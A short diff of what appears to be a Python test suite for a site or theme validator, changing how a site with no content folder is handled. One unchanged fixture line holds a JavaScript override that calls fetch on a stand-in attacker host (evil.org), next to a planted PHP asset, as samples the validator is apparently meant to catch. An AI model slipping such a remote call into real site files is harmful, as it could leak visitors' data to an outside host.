@@ -1198,7 +1198,8 @@ th("unread theme file", "x.txt", "x")
 th("asset php", "assets/x.php", "<?php")
 th("js override", "assets/js/99.js", 'fetch("https://evil.org")')
 # site-level
-case("no content")(lambda d: shutil.rmtree(d + "/content"))
+# A folder that is no site is not read at all.
+case("no content", "machine")(lambda d: shutil.rmtree(d + "/content"))
 case("empty content")(lambda d: (shutil.rmtree(d + "/content"), os.makedirs(d + "/content")))
 case("no site", "refuse")(lambda d: os.remove(d + "/" + S))
 case("only junk", "refuse")(
